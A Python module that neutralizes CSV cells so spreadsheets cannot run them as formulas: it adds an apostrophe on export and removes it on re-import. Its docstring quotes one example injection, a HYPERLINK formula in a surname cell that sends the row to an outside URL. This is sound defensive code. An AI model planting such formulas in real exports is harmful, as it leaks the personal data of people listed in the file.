"""CSV cells that a spreadsheet cannot run as formulas (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets evaluate a cell starting with ``=``, ``+``, ``-`` or ``@`` (and
a tab or carriage return before them) as a formula: ``=HYPERLINK("http://…?"&A1, "clic")`` in a
surname would leak the row the moment a coordinator clicks it. Every CSV the project writes passes its
cells through :func:`neutralize`, which prefixes such a cell with an apostrophe (shown as text by
every spreadsheet); reading our own CSV back, :func:`restore` takes it off again, so an export
imports back unchanged.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_GUARD = "'"


def _guarded(text: str) -> bool:
    """Starts like a formula, possibly after apostrophes (so ``'=1`` as written survives a round trip)."""
    return text.lstrip(_GUARD).startswith(FORMULA_STARTS)


def neutralize(text: str) -> str:
    """The cell as a spreadsheet must show it: a formula-looking value gets a leading apostrophe."""
    return _GUARD + text if _guarded(text) else text


def restore(text: str) -> str:
    """The value :func:`neutralize` was given (cells it did not change come back as they are)."""
    return text[1:] if text.startswith(_GUARD) and _guarded(text) else text
